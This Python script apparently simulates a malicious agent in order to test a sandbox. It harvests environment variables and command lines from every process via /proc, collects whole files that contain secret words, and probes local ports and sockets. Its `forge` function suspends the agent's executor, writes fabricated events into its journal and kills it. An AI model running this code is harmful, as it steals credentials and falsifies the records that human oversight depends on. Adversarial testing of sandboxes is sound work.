"""What an agent that means harm does inside its sandbox. Standard library alone: it runs there.

python3 hostile_program.py ORDERS        (JSON; what it found is in report.json)
Looks for secrets and other sessions everywhere, asks every port for what it must not get, and with `forge` kills its
own executor after it wrote events of its own making into the journal.
"""

import contextlib
import json
import os
import signal
import socket
import stat
import sys
from http.client import HTTPConnection, HTTPException
from pathlib import Path
from typing import Any

_PROC = Path("/proc")
_LOOKED_AT = ("/home", "/workspace", "/run", "/tmp", "/var", "/root", "/etc", "/opt", "/srv", "/mnt", "/dev/shm")  # noqa: S108
_LARGEST = 1 << 20


def processes() -> dict[str, list[str]]:
    """Command line and environment of all that can be seen."""
    found = {}
    for place in _PROC.iterdir():
        if place.name.isdigit():
            with contextlib.suppress(OSError):
                parts = [(place / name).read_bytes().decode(errors="replace") for name in ("cmdline", "environ")]
                found[place.name] = [part.replace("\0", " ") for part in parts]
    return found


def files_with(words: list[str]) -> dict[str, str]:
    """Files that have one of the words in them, with all of their text."""
    found = {}
    for place in _files():
        with contextlib.suppress(OSError):
            if stat.S_ISREG(place.lstat().st_mode) and place.stat().st_size < _LARGEST:
                text = place.read_bytes().decode(errors="replace")
                if any(word in text for word in words):
                    found[str(place)] = text
    return found


def sockets() -> list[str]:
    found = []
    for place in _files():
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(place.lstat().st_mode):
                found.append(str(place))
    return sorted(found) + [line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines() if "@" in line]


def _files() -> list[Path]:
    tops = [Path(top) for top in _LOOKED_AT]
    tops += [place / "root/home" for place in _PROC.iterdir() if place.name.isdigit()]
    return [Path(folder) / name for top in tops for folder, _, names in os.walk(top) for name in names]


def listening() -> list[int]:
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return sorted({int(parts[1].rpartition(":")[2], 16) for parts in lines if parts[3] == "0A"})


def asked(port: int, method: str, path: str, body: Any = None, **headers: str) -> list[Any]:
    connection = HTTPConnection("127.0.0.1", port, timeout=20)
    try:
        connection.request(method, path, None if body is None else json.dumps(body), headers)
        answer = connection.getresponse()
        return [answer.status, answer.read(100_000).decode(errors="replace")]
    except (OSError, HTTPException) as error:
        return [0, type(error).__name__]
    finally:
        connection.close()


def reached(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=3):
            return True
    except OSError:
        return False


def forge(events: list[dict[str, Any]]) -> None:
    """Append to the journal while its owner stands still, then end the owner: the next one believes what is there."""
    place = Path(os.environ["HOME"]) / ".contextbase" / "journal.jsonl"
    owner = next(int(name) for name, (command, _) in processes().items() if ".pyz" in command)
    os.kill(owner, signal.SIGSTOP)
    last = json.loads(place.read_bytes().splitlines()[-1])["n"]
    with place.open("a") as file:
        own = os.environ["CONTEXTBASE_RUN"].rpartition(":")[0]
        for number, event in enumerate(events, last + 1):
            run_id = own if event["run_id"] == "self" else event["run_id"]
            file.write(json.dumps({**event, "n": number, "event_id": f"forged:{number}", "run_id": run_id}) + "\n")
    os.kill(owner, signal.SIGKILL)


def main() -> None:
    orders = json.loads(Path(sys.argv[1]).read_text())
    report = {
        "environment": dict(os.environ),
        "processes": processes(),
        "files": files_with(orders["words"]),
        "sockets": sockets(),
        "answers": [[one, [asked(port, **one) for port in listening()]] for one in orders["requests"]],
        "reached": [target for target in orders["addresses"] if reached(*target)],
    }
    Path("report.json").write_text(json.dumps(report))
    if orders["forge"]:
        forge(orders["forge"])


if __name__ == "__main__":
    main()
